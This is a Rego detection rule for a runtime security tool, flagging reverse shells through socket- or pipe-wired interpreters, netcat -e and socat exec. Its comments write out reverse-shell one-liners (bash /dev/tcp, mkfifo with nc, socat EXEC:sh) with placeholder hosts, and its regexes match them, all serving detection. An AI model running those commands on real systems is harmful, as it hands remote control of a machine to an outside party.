# METADATA
# title: Reverse shell
# description: >-
#   A shell or interpreter whose standard input or output is a network connection, or that is wired to a network program
#   through pipes. Whoever is at the other end gives it commands.
# schemas:
#   - input: schema.process_exec
# custom:
#   id: reverse-shell
#   on: [process_exec]
#   severity: critical
#   tags: [T1059.004, T1071, TA0002, TA0011]
#   dedupe:
#     # What a shell starts has the same connection: its start-up files alone can be dozens of programs.
#     by:
#       - '($c := process.stdio[type = "socket" and fd < 2][0]; $c ? $c.saddr & " " & $c.sport & " " & $c.daddr & " " & $c.dport : process.exec_id)'
#     within: 1m
package detections.reverse_shell

import data.lib.process

# The plain form: bash -i >& /dev/tcp/HOST/PORT 0>&1, nc -e, and what dup2()s a socket before it starts a shell.
alert contains {"message": message} if {
	connection
	process.is_interpreter(input.process.binary)
	not served
	message := sprintf("%s talks to %s over its %s", [
		input.process.binary,
		endpoint(connection.daddr, connection.dport),
		stream_name[connection.fd],
	])
}

# The named-pipe form, seen at the shell: mkfifo f; sh -i <f | nc HOST PORT >f
alert contains {"message": message} if {
	process.is_shell(input.process.binary)
	process.interactive(input.process.arguments)
	stream_type(0) == "fifo"
	stream_type(1) in {"pipe", "fifo"}
	message := sprintf("interactive %s reads its commands from a named pipe", [input.process.binary])
}

# The same with cat before it: cat f | sh -i 2>&1 | nc HOST PORT >f. All three streams are pipes, and a shell set them up.
# Programs that drive a shell through pipes (docker exec -i, an editor) are not shells: that alone is not critical.
alert contains {"message": message, "severity": severity} if {
	process.is_shell(input.process.binary)
	process.interactive(input.process.arguments)
	every fd in [0, 1, 2] {
		stream_type(fd) in {"pipe", "fifo"}
	}
	stream_type(0) == "pipe"
	severity := severity_by_parent
	message := sprintf("interactive %s has nothing but pipes for its input and output", [input.process.binary])
}

# The named-pipe form, seen at the network program: it feeds the pipe that a shell reads, and is fed by a pipe itself.
alert contains {"message": message} if {
	process.is_relay(input.process.binary)
	stream_type(0) == "pipe"
	stream_type(1) == "fifo"
	started_by_interpreter
	message := sprintf("%s %s carries a pipe to the network and back into a named pipe", [
		input.process.binary,
		input.process.arguments,
	])
}

# A network program that starts a shell itself: nc -e /bin/sh, socat EXEC:sh,pty TCP:HOST:PORT. With a terminal between the
# two, the shell itself shows no connection.
alert contains {"message": message} if {
	process.is_relay(input.process.binary)
	runs_shell
	message := sprintf("%s gives a shell to the network: %s", [input.process.binary, input.process.arguments])
}

# The connection on standard input or output, the former first. A socket without a peer (a listening one, as FastCGI
# programs have on descriptor 0) is none.
connection := connections[0]

connections := [stream |
	some fd in [0, 1]
	some stream in input.process.stdio
	stream.fd == fd
	stream.type == "socket"
	stream.family in {"ipv4", "ipv6"}
	stream.dport > 0
]

# The connection was accepted by a super-server, whose programs are meant to talk over it. An interactive shell is not.
served if {
	not process.interactive(input.process.arguments)
	accepted
}

# systemd names the instance of a socket-activated unit by the connection: srv@3-10.0.0.1:80-10.0.0.2:40112.service
accepted if contains(input.process.cgroup.path, sprintf("-%s.service", [endpoint(connection.daddr, connection.dport)]))

# inetd and its kin: the local port is the service's, not one that the kernel picked for an outgoing connection.
accepted if {
	connection.sport < 32768
	some binary in above
	process.is_super_server(binary)
}

# A web server that hands the connection to a CGI script.
accepted if {
	connection.sport < 32768
	is_string(input.process.script)
	process.is_web_server(input.process.previous.binary)
}

above contains input.process.previous.binary

above contains input.parent.binary

above contains ancestor.binary if some ancestor in input.ancestors

severity_by_parent := "critical" if {
	process.is_shell(input.parent.binary)
} else := "high"

started_by_interpreter if process.is_interpreter(input.parent.binary)

started_by_interpreter if process.is_interpreter(input.process.previous.binary)

runs_shell if {
	process.name(input.process.binary) == "socat"
	regex.match(`(?i)(^|[ "'])(exec|system|shell):\S*\b(sh|bash|dash|zsh|ksh|ash)\b`, input.process.arguments)
	regex.match(`(?i)(^|[ "'])(tcp|tcp4|tcp6|tcp-connect|tcp4-connect|tcp6-connect|openssl|openssl-connect|udp|udp-connect|sctp|sctp-connect):`, input.process.arguments)
}

runs_shell if {
	process.name(input.process.binary) in {"nc", "ncat", "netcat", "nc.traditional"}
	regex.match(`(^| )(-[a-zA-Z]*[ec]|--exec|--sh-exec)[ =]\S*\b(sh|bash|dash|zsh|ksh|ash)\b`, input.process.arguments)
}

stream_type(fd) := stream.type if {
	some stream in input.process.stdio
	stream.fd == fd
}

stream_name := {0: "stdin", 1: "stdout"}

endpoint(address, port) := sprintf("%s:%d", [address, port]) if not contains(address, ":")

endpoint(address, port) := sprintf("[%s]:%d", [address, port]) if contains(address, ":")
